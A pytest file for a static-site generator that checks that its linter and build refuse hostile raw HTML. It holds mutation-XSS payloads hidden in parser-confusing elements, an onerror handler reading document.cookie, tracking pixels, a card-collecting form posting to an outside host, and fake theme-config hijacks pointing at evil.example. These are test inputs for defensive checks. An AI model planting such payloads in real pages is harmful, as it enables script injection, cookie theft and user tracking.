"""Hostile raw HTML in content (issue: the second attack round): markup a browser
reads differently from a lenient parser, styles and old attributes that load
from elsewhere or lay a layer over the page, and ids that stand in for the
theme's own elements. Each case is refused at file:line, and the build with it
publishes nothing. Where a script would be the harm, Chromium checks a site
built from the same content (it is built only if hubgen lets it through), both
with the hub's own `_headers` (as Netlify serves it) and without (as GitHub
Pages does).
"""

from __future__ import annotations

import contextlib
import datetime as dt
import re
import textwrap
from pathlib import Path

import pytest

from contentkit import MINIMAL, lint_content, write_content
from conftest import run_hubgen, serve_folder
from test_headers import NetlifyLikeHandler, _rules

TODAY = dt.date(2026, 11, 20)
UPDATE = "updates/2026-11-18-hello.md"
BODY_LINE = 5  # the body's first line in update()


def update(body: str) -> str:
    return f"---\ntitle: Hello backers\ndate: 2026-11-18\n---\n{body}\n"


def lint(root: Path, changes: dict) -> list:
    return lint_content(root, changes, TODAY)


def errors_at(found, path: str, line: int) -> list:
    return [d for d in found if d.severity == "error" and str(d.location).startswith(f"content/{path}:{line}:")]


# A script hidden where Python's html.parser saw an attribute value or raw text,
# but a browser sees an <img> with a handler (or other live markup).
# No quotes in it: it sits inside a quoted attribute value where html.parser looks.
PAYLOAD = "<img src=/assets/none.png onerror=document.documentElement.dataset.pwned=1>"
HIDING_PLACES = {
    "xmp": '<xmp><p title="</xmp>{payload}"></xmp>',
    "noscript": '<noscript><p title="</noscript>{payload}"></noscript>',
    "noembed": '<noembed><p title="</noembed>{payload}"></noembed>',
    "noframes": '<noframes><p title="</noframes>{payload}"></noframes>',
    "textarea": '<textarea><p title="</textarea>{payload}"></textarea>',
    "title": '<title><p title="</title>{payload}"></title>',
    "style": '<style><p title="</style>{payload}"></style>',
    "iframe": '<iframe><p title="</iframe>{payload}"></iframe>',
    "svg style": "<svg><style>{payload}</style></svg>",
    "math style": "<math><mtext><table><mglyph><style>{payload}</style></mglyph></table></mtext></math>",
    "svg title": '<svg><title><p title="</title>{payload}"></title></svg>',
    "template": '<template>{payload}</template>',
    "select": '<select><option><p title="</option>{payload}"></option></select>',
    "plaintext": '<plaintext>{payload}',  # last: the rest of the page is its text
}


def hidden(name: str) -> str:
    return HIDING_PLACES[name].format(payload=PAYLOAD)


@pytest.mark.parametrize("name", HIDING_PLACES)
def test_no_raw_text_or_foreign_element_hides_markup_from_lint(tmp_path, name):
    found = lint(tmp_path, {UPDATE: update(f"Production update.\n\n{hidden(name)}")})
    refused = errors_at(found, UPDATE, BODY_LINE + 2)
    assert refused, f"{name}: lint let it through: {[d.text() for d in found]}"
    assert {d.code for d in refused} & {"HUB180", "HUB182", "HUB183", "HUB186"}  # refused, not just a broken link


def test_the_build_refuses_every_hiding_place_and_chromium_runs_none(tmp_path, browser):
    """One page with every hiding place: the build refuses it and says where each is.
    Had it been built, no handler may have run in Chromium, with the hub's headers or without."""
    places = [name for name in HIDING_PLACES if name != "iframe"]  # HUB182 refused an iframe already
    body = "Production update.\n\n" + "\n\n".join(hidden(name) for name in places)
    content = write_content(tmp_path, {UPDATE: update(body)})
    site = tmp_path / "site"
    result = run_hubgen("build", str(content), "-o", str(site), "--today", "2026-11-20")
    if result.returncode == 0:
        for with_headers in (True, False):
            assert pwned(browser, site, "updates/2026-11-18-hello/", with_headers) is None
    assert result.returncode == 1, result.stdout + result.stderr
    said = result.stdout + result.stderr
    for number, _ in enumerate(places):
        assert f"content/{UPDATE}:{BODY_LINE + 2 + 2 * number}:" in said, said
    assert not site.exists()


@contextlib.contextmanager
def served(browser, site: Path, with_headers: bool):
    """A fresh browser context and the site's base URL, served with its _headers
    (as Netlify serves it) or without (as GitHub Pages does)."""
    handler = type("Handler", (NetlifyLikeHandler,), {"rules": _rules(site) if with_headers else []})
    server, url = serve_folder(site, handler)
    context = browser.new_context()
    try:
        yield context, url
    finally:
        context.close()
        server.shutdown()


def pwned(browser, site: Path, path: str, with_headers: bool):
    """What a handler wrote into the page (None: nothing ran)."""
    with served(browser, site, with_headers) as (context, url):
        page = context.new_page()
        page.goto(url + path, wait_until="load")
        page.wait_for_timeout(300)
        return page.evaluate("document.documentElement.dataset.pwned || null")


# -- styles and old attributes that load from elsewhere or cover the page --------------------

REMOTE_OR_OVERLAY = {
    "style url": '<p style="background:url(https://pixel.example/p.png)">Hi</p>',
    "style element": "<style>body{background:url(https://pixel.example/p.png)}</style>",
    "style import": '<style>@import "https://pixel.example/x.css";</style>',
    "background attribute": '<table background="https://pixel.example/p.png"><tr><td>x</td></tr></table>',
    "svg feImage": '<svg><filter id="f"><feImage href="https://pixel.example/p.png"/></filter></svg>',
    "svg image": '<svg><image href="https://pixel.example/p.png"/></svg>',
    "ping": '<a href="/faq/" ping="https://pixel.example/ping">FAQ</a>',
    "srcset": '<img src="/assets/box.png" srcset="https://pixel.example/p.png 2x" alt="Box">',
    "picture source": '<picture><source srcset="https://pixel.example/p.webp"><img src="/assets/box.png" alt="Box"></picture>',
    "poster": '<video src="/assets/tour.mp4" poster="https://pixel.example/p.png"></video>',
    "scheme without slashes": '<img src="http:pixel.example/p.png" alt="Box">',
    "backslashes": '<img src="/\\pixel.example/p.png" alt="Box">',
    "image element": '<image src="https://pixel.example/p.png">',
    "overlay on a link": '[Claim your refund](/refund-policy/){: style="position:fixed;inset:0;opacity:0" }',
    "overlay class": '<a class="md-overlay" href="/refund-policy/">Claim</a>',
    "link element": '<link rel="stylesheet" href="https://pixel.example/x.css">',
    "base": '<base href="https://pixel.example/">',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;parent.location=1&lt;/script&gt;"></iframe>',
}


@pytest.mark.parametrize("name", REMOTE_OR_OVERLAY)
def test_remote_loads_and_overlays_are_refused_at_their_line(tmp_path, name):
    found = lint(tmp_path, {UPDATE: update(f"New photos!\n\n{REMOTE_OR_OVERLAY[name]}")})
    assert errors_at(found, UPDATE, BODY_LINE + 2), f"{name}: {[d.text() for d in found]}"


def test_a_style_attribute_is_refused_with_its_place_and_fix(tmp_path):
    found = lint(tmp_path, {UPDATE: update(f"New photos!\n\n{REMOTE_OR_OVERLAY['overlay on a link']}")})
    (hit,) = [d for d in found if d.code == "HUB186"]
    assert hit.text() == (f"content/{UPDATE}:7:40: error HUB186: a style= attribute is not among the HTML "
                          "content may hold (remove it; content takes the hub's own styles, and "
                          "`hubgen rules HUB186` lists what HTML it may use)")


def test_what_markdown_and_creators_write_stays_allowed(tmp_path):
    body = textwrap.dedent("""\
        ## What changed

        | Region | Ships |
        |:-------|------:|
        | EU     | March |

        !!! note "Customs"
            Duties are included.

        <details><summary>Spoilers</summary>The box is <kbd>blue</kbd> and <mark>big</mark>.</details>

        <figure><img src="/assets/box.png" alt="The box" width="640" srcset="/assets/box@2x.png 2x">
        <figcaption>Final box</figcaption></figure>

        <video src="/assets/tour.mp4" poster="/assets/tour.png" controls></video>

        [Read the policy](/refund-policy/){: title="Refunds" } and <abbr title="Estimated">ETA</abbr>.
        <a href="https://www.kickstarter.com/projects/test/kettle" target="_blank" rel="noopener">Campaign</a>

        <p id="sizes" class="sizes wide" lang="de" dir="ltr">Größen: S, M, L</p>
        """)
    found = lint(tmp_path, {UPDATE: update(body)})
    assert [d.text() for d in found if d.code.startswith("HUB18")] == []


# -- content standing in for the theme's own elements ----------------------------------------

def test_an_element_named_like_the_themes_config_is_refused(tmp_path):
    body = 'Sizes: <span id="__config">{"base": "https://evil.example", "search": "/x.js"}</span>'
    found = lint(tmp_path, {UPDATE: update(body)})
    (hit,) = [d for d in found if d.code == "HUB187"]
    assert hit.text() == (f"content/{UPDATE}:5:18: error HUB187: id '__config' belongs to the hub's own page "
                          "(the theme's and hubgen's scripts look it up) (choose another name: ids and classes "
                          "starting with __, md-, hubgen- or ask- are the hub's own)")


@pytest.mark.parametrize("markup", [
    "[Questions](/faq/){: #__search }", '<p id="ask-form">Ask</p>', '<div class="hubgen-banner">Sale</div>',
    '<span id="hubgen-search-results"></span>', '<p id="ask-elsewhere-1">x</p>', '<p class="md-dialog">x</p>',
])
def test_every_reserved_id_and_class_is_refused(tmp_path, markup):
    found = lint(tmp_path, {UPDATE: update(f"Note.\n\n{markup}")})
    assert [d.code for d in errors_at(found, UPDATE, BODY_LINE + 2)] == ["HUB187"], [d.text() for d in found]


def test_data_attributes_are_refused(tmp_path):
    found = lint(tmp_path, {UPDATE: update('Refunds\n{: #refunds-info data-hubgen-moved="https://evil.example/" }')})
    (hit,) = [d for d in found if d.code == "HUB186"]
    assert hit.message.startswith("a data-hubgen-moved= attribute on <p> is not among the HTML content may hold")
    assert str(hit.location).startswith(f"content/{UPDATE}:6:")


def test_an_id_that_an_faq_entry_has_is_a_duplicate_at_its_line(tmp_path):
    faq = textwrap.dedent(MINIMAL["faq.yaml"]) + textwrap.indent(textwrap.dedent("""\
        - id: refund
          q: Can I get a refund?
          a: Yes, see the policy.
        """), "    ")
    faq = faq.replace("a: In **March**. See the [refund policy](/refund-policy/).",
                      "a: |\n        In **March**.\n        {: #refund }")
    found = lint(tmp_path, {"faq.yaml": faq})
    (hit,) = [d for d in found if d.code == "HUB188"]
    assert hit.text().startswith("content/faq.yaml:7:12:")
    assert "id 'refund' is on the page /faq/ twice: a link to #refund leads to the first one" in hit.message


def test_ids_are_read_as_the_browser_reads_them(tmp_path):
    """A second id in raw HTML beside a heading of the same name (toc does not see raw HTML)."""
    found = lint(tmp_path, {UPDATE: update('<a id="what-changed"></a>\n\n## What changed\n\nAll of it.')})
    assert [d.code for d in found if d.severity == "error"] == ["HUB188"]


# -- hubgen share: an email carries nothing the hub would refuse -----------------------------

PIXEL = '<img src="https://pixel.example/open.gif?backer=1" width="1" height="1" alt="">'
HOSTILE_EMAIL = (f"We ship in March.\n\n{PIXEL}\n\n<script>steal()</script>\n\n"
                 '<form action="https://collect.example/"><input name="card"></form>')


def test_share_refuses_what_the_build_refuses_and_says_where(tmp_path):
    content = write_content(tmp_path, {UPDATE: update(HOSTILE_EMAIL)})
    result = run_hubgen("share", "2026-11-18-hello", str(content), "--to", "email", "--today", "2026-11-20")
    said = result.stdout + result.stderr
    assert result.returncode == 1, said
    assert f"content/{UPDATE}:7:11: error HUB185: <img> loading https://pixel.example/open.gif?backer=1" in said
    assert f"content/{UPDATE}:9:1: error HUB180: a <script> element would run a script" in said
    assert f"content/{UPDATE}:11:1: error HUB183: a <form> element" in said
    assert "Subject:" not in result.stdout  # no message was written


@pytest.mark.parametrize("target", ["email", "text", "kickstarter"])
def test_no_channel_gets_a_tracking_pixel_even_when_a_creator_allows_it(tmp_path, target):
    """HUB185 made a warning (the creator's call for the site): the email still loads nothing."""
    hub = textwrap.dedent(MINIMAL["hub.yaml"]) + "settings:\n  lint:\n    severity:\n      HUB185: warning\n"
    content = write_content(tmp_path, {"hub.yaml": hub, UPDATE: update(f"We ship in March.\n\n{PIXEL}")})
    result = run_hubgen("share", "2026-11-18-hello", str(content), "--to", target, "--today", "2026-11-20")
    assert result.returncode == 0, result.stderr
    assert "pixel.example" not in result.stdout
    assert "We ship in March." in result.stdout.replace("=\n", "")


def test_an_earlier_anchor_cannot_send_faq_links_off_site(tmp_path, browser):
    """hubgen.js follows an element marked data-hubgen-moved to its href (an FAQ that grew
    into pages); a content anchor with the entry's id, earlier on the page, sent every
    /faq/#refund link to another site, under the hub's CSP too (hubgen.js is the hub's own)."""
    faq = textwrap.dedent(MINIMAL["faq.yaml"]) + textwrap.indent(textwrap.dedent("""\
        - id: refund
          q: Can I get a refund?
          a: Yes, within 30 days.
        """), "    ")
    faq = faq.replace("a: In **March**. See the [refund policy](/refund-policy/).",
                      'a: |\n        In **March**. [](https://evil.example/){: #refund data-hubgen-moved="answer" }')
    content = write_content(tmp_path, {"faq.yaml": faq})
    site = tmp_path / "site"
    result = run_hubgen("build", str(content), "-o", str(site), "--today", "2026-11-20")
    if result.returncode == 0:  # what it did: a site whose /faq/#refund leaves the hub
        for with_headers in (True, False):
            assert _requests_elsewhere(browser, site, "faq/#refund", with_headers) == []
    said = result.stdout + result.stderr
    assert result.returncode == 1, said
    assert "content/faq.yaml:6:" in said and "error HUB186: a data-hubgen-moved= attribute on <a>" in said
    assert "error HUB188: id 'refund' is on the page /faq/ twice" in said
    assert not site.exists()


def _requests_elsewhere(browser, site: Path, path: str, with_headers: bool, click: str = "") -> list[str]:
    """Every request the page makes to another host (aborted), once loaded (and `click` clicked)."""
    with served(browser, site, with_headers) as (context, url):
        elsewhere: list[str] = []
        context.route("**/*", lambda route: (elsewhere.append(route.request.url), route.abort())
                      if not route.request.url.startswith(url) else route.continue_())
        page = context.new_page()
        page.goto(url + path, wait_until="load")
        if click:
            page.locator(click).first.click()
        page.wait_for_timeout(500)
        return elsewhere


# -- the reserved names are the page's own, read from the theme and hubgen -------------------

def _ids_in(folder: Path, pattern: str) -> set[str]:
    found = set()
    for path in folder.rglob(pattern):
        text = path.read_text(encoding="utf-8", errors="replace")
        for value in re.findall(r"""\bid=["']([^"']+)["']""", text):
            found.add(value.split("{{")[0])  # a generated id: its fixed start
        found.update(re.findall(r"""getElementById\(["']([^"']+)["']\)""", text))
        found.update(re.findall(r"""["'`]#(__[\w-]+)""", text))
    return {value for value in found if value and not value.startswith("${")}  # JS template strings


def test_every_id_the_theme_and_hubgen_use_is_reserved():
    import material

    from hubgen.theme import reserved_name, templates_dir

    theme = Path(material.__file__).parent / "templates"
    used = _ids_in(theme, "*.html") | _ids_in(theme / "assets" / "javascripts", "*.js")
    used |= _ids_in(templates_dir(), "*.j2") | _ids_in(templates_dir(), "*.html") | _ids_in(templates_dir(), "*.js")
    # Anchors of hubgen's own pages, which content never shares a page with.
    page_anchors = {"region-"}
    assert {"__config", "__search", "ask-form", "hubgen-country"} <= used
    assert sorted(value for value in used - page_anchors if not reserved_name(value)) == []


def test_a_fake_theme_config_cannot_move_where_the_hubs_scripts_send(tmp_path, browser):
    """hubgen's scripts read the site's base from the theme's #__config: an element with
    that id earlier on the page made "Was this helpful?" post to another host."""
    fake = '<span id="__config">{"base": "https://evil.example", "features": []}</span>'
    faq = textwrap.dedent(MINIMAL["faq.yaml"]).replace(
        "a: In **March**. See the [refund policy](/refund-policy/).", f"a: 'In **March**. {fake}'")
    content = write_content(tmp_path, {"faq.yaml": faq})
    site = tmp_path / "site"
    result = run_hubgen("build", str(content), "-o", str(site), "--today", "2026-11-20")
    if result.returncode == 0:  # what it did: the answer's fake config steered the page's scripts
        for with_headers in (True, False):
            assert _requests_elsewhere(browser, site, "faq/", with_headers,
                                       click='[data-helpful="yes"]') == []
    said = result.stdout + result.stderr
    assert result.returncode == 1, said
    assert "content/faq.yaml:5:35:" in said and "error HUB187: id '__config' belongs to the hub's own page" in said
    assert not site.exists()


@pytest.mark.parametrize("markup", ['<p><a href="https://evil.example/">Claim your refund</p>', "<div>\n\nNotes",
                                    "<table><tr><td>Size", "<details><summary>More</summary>\n\nText"])
def test_markup_left_open_cannot_take_in_the_page_below_it(tmp_path, markup):
    """An <a> left open is opened again around what follows: the hub's own buttons below
    the answer would all lead to that address."""
    found = lint(tmp_path, {UPDATE: update(f"Note.\n\n{markup}")})
    hits = [d for d in found if d.code == "HUB186"]
    assert [d.message for d in hits] == [
        "markup left open at the end (an element, tag or link not closed) is not among the HTML content may hold"], \
        [d.text() for d in found]
    assert hits[0].fix.startswith("close it where it ends")


def test_an_id_of_the_pages_own_table_is_a_duplicate(tmp_path):
    hub = textwrap.dedent(MINIMAL["hub.yaml"]).replace(
        "description: Your payment went through.", "description: 'Your payment went through. [](){: #what-can-i-change }'")
    found = lint(tmp_path, {"hub.yaml": hub})
    (hit,) = [d for d in found if d.code == "HUB188"]
    assert "id 'what-can-i-change' is on the page /pledge-states/ twice" in hit.message


# -- translations: text backers read in another language is checked as the original is

HIDDEN_SCRIPT = '<img src="/assets/kettle.png" alt="" onerror="alert(document.cookie)">'


@pytest.mark.parametrize("path, text, line", [
    ("de/faq.yaml", "- category: Versand\n  questions:\n    - id: when-ship\n      q: Wann kommt er?\n"
                    f"      a: Im März. {HIDDEN_SCRIPT}\n", 5),
    ("de/refund-policy.md", f"---\nwindow_days: 30\n---\nWir erstatten.\n\n{HIDDEN_SCRIPT}\n", 6),
    ("de/updates/2026-11-18-hello.md", f"---\ntitle: Hallo\n---\nErste Neuigkeiten.\n{HIDDEN_SCRIPT}\n", 5),
], ids=["faq", "policy", "update"])
def test_a_script_in_a_translation_is_refused_where_it_was_written(tmp_path, path, text, line):
    """Found by a read of the whole change: lint checked only the original, so a translation
    (say, from a volunteer's pull request) published an onerror= script on every German page."""
    hub = textwrap.dedent(MINIMAL["hub.yaml"]).replace("  site_url: https://help.kettle.example/\n",
                                                       "  site_url: https://help.kettle.example/\n"
                                                       "  languages: [en, de]\n")
    found = lint_content(tmp_path, {"hub.yaml": hub, path: text}, TODAY)
    assert "HUB180" in [d.code for d in errors_at(found, path, line)], [d.text() for d in found]
    built = run_hubgen("build", "--today", TODAY.isoformat(), cwd=tmp_path)
    assert built.returncode == 1
    assert f"content/{path}:{line}:" in built.stderr and "HUB180" in built.stderr
    assert not (tmp_path / "site").exists()
